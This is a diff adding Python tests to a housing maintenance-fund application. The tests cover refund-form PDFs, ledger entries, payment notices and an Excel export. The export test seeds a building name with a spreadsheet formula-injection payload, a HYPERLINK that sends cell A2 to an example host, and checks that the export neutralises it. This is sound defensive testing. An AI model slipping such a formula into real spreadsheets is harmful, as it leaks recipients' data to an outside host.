@@ -12,7 +12,7 @@ from models import Building, House, LedgerEntry, Payment
 from models.enums import Role
 from services.deposits import recalculate
 from tests.api import gql
-from tests.appflow import make_world, step, through_review, tree, wait_job
+from tests.appflow import make_world, pdf_pages, step, through_review, tree, wait_job
 from tests.factories import login, make_user
 from tests.sheets import XLSX
 
@@ -334,3 +334,144 @@ async def test_every_payment_mutation_refuses_other_organisations_and_roles(clie
     assert (await gql(client, "mutation { recalculateDeposits { id } }", token=world.bank_token)).code == "FORBIDDEN"
     assert (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { id } }", {"id": encode_id("Refund", 1)},
                       token=world.clerk)).code == "NOT_FOUND"
+
+
+async def test_renewal_export_stores_text_as_text_never_a_formula(client, session, world):
+    """Issue 12.11: a building named like a formula came out of the 续筹 export as a live formula."""
+    import io
+
+    from openpyxl import load_workbook
+    from sqlalchemy import update
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'
+    await session.execute(update(Building).where(Building.estate_id == world.estate).values(name=formula))
+    await session.execute(update(House).where(House.building_id.in_(
+        select(Building.id).where(Building.estate_id == world.estate))).values(unit="@SUM(1+1)"))
+    await session.commit()
+    every = [h["id"] for b in (await tree(client, world))["buildings"] for h in b["houses"]]  # none paid: chosen
+    exported = (await gql(client, "mutation($e: ID!, $h: [ID!]) { exportRenewalAmounts(estateId: $e, houseIds: $h) { id } }",
+                          {"e": world.estate_gid, "h": every}, token=world.dev)).ok()["exportRenewalAmounts"]
+    done = await wait_job(client, world.dev, exported["id"])
+    assert done["status"] == "SUCCEEDED", done
+    data = (await client.get(done["result"]["url"])).content
+    raw = zipfile_text(data, "xl/worksheets/sheet1.xml")
+    assert "<f>" not in raw and "<f " not in raw  # no cell holds a formula
+    ws = load_workbook(io.BytesIO(data)).active
+    assert ws["B2"].value == formula and ws["B2"].data_type == "s"
+    assert ws["C2"].value == "@SUM(1+1)" and ws["C2"].data_type == "s"
+    assert ws.freeze_panes == "A2"  # the header stays in view
+    assert all(ws.cell(2, col).number_format == "0.00" for col in (6, 7, 8, 9))
+
+
+def zipfile_text(data: bytes, member: str) -> str:
+    import io
+    import zipfile
+
+    return zipfile.ZipFile(io.BytesIO(data)).read(member).decode("utf-8")
+
+
+REFUND_ACCOUNT = '{accountName: "江门示例置业", bankName: "工行江门分行", accountNumber: "6222000011112222"}'
+
+
+async def _pdf_text(client, url: str) -> tuple[str, int]:
+    """pdftotext of a stored PDF (whitespace removed) and its page count."""
+    import re
+
+    pages = await pdf_pages(client, url)
+    return re.sub(r"\s+", "", "".join(pages)), len(pages)
+
+
+async def _eventually(client, token, query: str, variables: dict, pick):
+    for _ in range(300):
+        value = pick((await gql(client, query, variables, token=token)).ok())
+        if value:
+            return value
+        await asyncio.sleep(0.1)
+    raise AssertionError(f"nothing after 30 s: {query}")
+
+
+async def _lowered_area_submitted(client, world, houses: int = 2):
+    """Paid houses whose area an info change lowers, submitted with a refund account."""
+    building = (await tree(client, world))["buildings"][0]
+    notice = (await gql(client, f"mutation($ids: [ID!]!) {{ issueBuildingNotices(buildingIds: $ids) {{ {NOTICE} }} }}",
+                        {"ids": [building["id"]]}, token=world.dev)).ok()["issueBuildingNotices"][0]
+    (await confirm(client, world, notice, f"TX-{notice['number']}")).ok()
+    chosen = (await tree(client, world))["buildings"][0]["houses"][:houses]
+    items = [{"houseId": h["id"], "buildingArea": str(Decimal(h["buildingArea"]) - Decimal("10.00"))} for h in chosen]
+    app = (await gql(client, "mutation($input: HouseInfoChangeInput!) { createHouseInfoChange(input: $input) { id number depositImpact { house { code } refund } } }",
+                     {"input": {"estateId": world.estate_gid, "reason": "测绘面积减少", "items": items}}, token=world.dev)).ok()["createHouseInfoChange"]
+    r = await gql(client, f'mutation($id: ID!) {{ submitApplication(id: $id, refundAccount: {REFUND_ACCOUNT}) {{ status }} }}',
+                  {"id": app["id"]}, token=world.dev)
+    assert r.ok()["submitApplication"]["status"] == "SUBMITTED"
+    return app, chosen
+
+
+async def test_submit_renders_the_refund_form_and_approval_keeps_it_when_nothing_changed(client, session, world):
+    """Issue 7.10: the 退款申请表 is printable on submit (account given, depositImpact's amounts);
+    approval with the same amounts makes it each refund's form, and says nothing more."""
+    app, houses = await _lowered_area_submitted(client, world)
+    q = "query($id: ID!) { application(id: $id) { refundForm { id url filename kind } } }"
+    form = await _eventually(client, world.dev, q, {"id": app["id"]}, lambda d: d["application"]["refundForm"])
+    assert form["kind"] == "REFUND_FORM" and form["filename"] == f"退款申请表-{app['number']}.pdf"
+    text, pages = await _pdf_text(client, form["url"])
+    assert pages == 1
+    total = sum(Decimal(i["refund"]) for i in app["depositImpact"])
+    for expected in ("住宅专项维修资金退款申请表", app["number"], "江门示例置业", "工行江门分行", "6222000011112222",
+                     "测绘面积减少", f"¥{total:,.2f}", "共2套", *(i["house"]["code"] for i in app["depositImpact"]),
+                     *(f"{Decimal(i['refund']):,.2f}" for i in app["depositImpact"])):
+        assert expected in text, expected
+    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
+    approved = (await step(client, world.clerk, "approveApplication", app["id"])).ok()["approveApplication"]
+    assert "退款金额已重算" not in (approved["history"][-1]["comment"] or "")
+    refunds = (await gql(client, "query($id: ID!) { application(id: $id) { refundForm { id } refunds { amount form { id } } } }",
+                         {"id": app["id"]}, token=world.dev)).ok()["application"]
+    assert len(refunds["refunds"]) == 2 and all(r["form"]["id"] == refunds["refundForm"]["id"] for r in refunds["refunds"])
+    # The refund paid out names the application in its ledger memo.
+    refund_id = (await gql(client, "query($id: ID!) { application(id: $id) { refunds { id } } }", {"id": app["id"]},
+                           token=world.dev)).ok()["application"]["refunds"][0]["id"]
+    (await gql(client, "mutation($id: ID!) { completeRefund(id: $id) { status } }", {"id": refund_id}, token=world.clerk)).ok()
+    memos = (await session.scalars(select(LedgerEntry.memo).where(LedgerEntry.kind == "REFUND"))).all()
+    assert memos == [f"退款 {app['number']}"]
+
+
+async def test_approval_rerenders_the_refund_form_when_an_amount_changed(client, session, world):
+    from services import ledger
+    from models.enums import LedgerKind
+
+    app, houses = await _lowered_area_submitted(client, world)
+    q = "query($id: ID!) { application(id: $id) { refundForm { id url } } }"
+    printed = await _eventually(client, world.dev, q, {"id": app["id"]}, lambda d: d["application"]["refundForm"])
+    # A further payment for the first house arrives before the clerk decides: its refund grows.
+    first = decode_id(houses[0]["id"], "House")
+    await ledger.post(session, first, LedgerKind.DEPOSIT, Decimal("50.00"), memo="测试交存")
+    await session.commit()
+    (await step(client, world.clerk, "acceptApplication", app["id"])).ok()
+    approved = (await step(client, world.clerk, "approveApplication", app["id"])).ok()["approveApplication"]
+    before = {i["house"]["code"]: Decimal(i["refund"]) for i in app["depositImpact"]}
+    code = houses[0]["code"]
+    note = approved["history"][-1]["comment"]
+    assert "退款金额已重算" in note and code in note and "已重新生成退款申请表" in note
+    assert f"{before[code]:,.2f} 元改为 {before[code] + 50:,.2f} 元" in note and houses[1]["code"] not in note
+    q = "query($id: ID!) { application(id: $id) { refundForm { id } refunds { amount house { code } form { id url } } } }"
+    refunds = await _eventually(client, world.dev, q, {"id": app["id"]},
+                                lambda d: all(r["form"] for r in d["application"]["refunds"]) and d["application"]["refunds"])
+    assert {r["house"]["code"]: Decimal(r["amount"]) for r in refunds} == {**before, code: before[code] + 50}
+    for r in refunds:
+        assert r["form"]["id"] != printed["id"]
+        text, pages = await _pdf_text(client, r["form"]["url"])
+        assert pages == 1 and r["house"]["code"] in text and f"¥{Decimal(r['amount']):,.2f}" in text
+
+
+async def test_the_owner_notice_names_every_way_to_pay(client, world):
+    """Issue 7.11: 专户银行柜台, 侨都之窗 and 维修资金专用POS机."""
+    house = (await tree(client, world))["buildings"][1]["houses"][0]
+    q = f"mutation($items: [OwnerNoticeItemInput!]!) {{ issueOwnerNotices(items: $items) {{ {NOTICE} }} }}"
+    items = [{"houseId": house["id"], "owners": [{"name": "王五", "idType": "RESIDENT_ID", "idNumber": "11010519491231002X",
+                                                 "phone": "13800138000"}]}]
+    notice = (await gql(client, q, {"items": items}, token=world.dev)).ok()["issueOwnerNotices"][0]
+    doc = await _eventually(client, world.dev, "query($n: String!) { paymentNotice(number: $n) { document { url } } }",
+                            {"n": notice["number"]}, lambda d: d["paymentNotice"]["document"])
+    text, pages = await _pdf_text(client, doc["url"])
+    assert pages == 1 and notice["number"] in text and "王五" in text
+    for way in ("专户银行柜台", "侨都之窗", "维修资金专用POS机"):
+        assert way in text, way
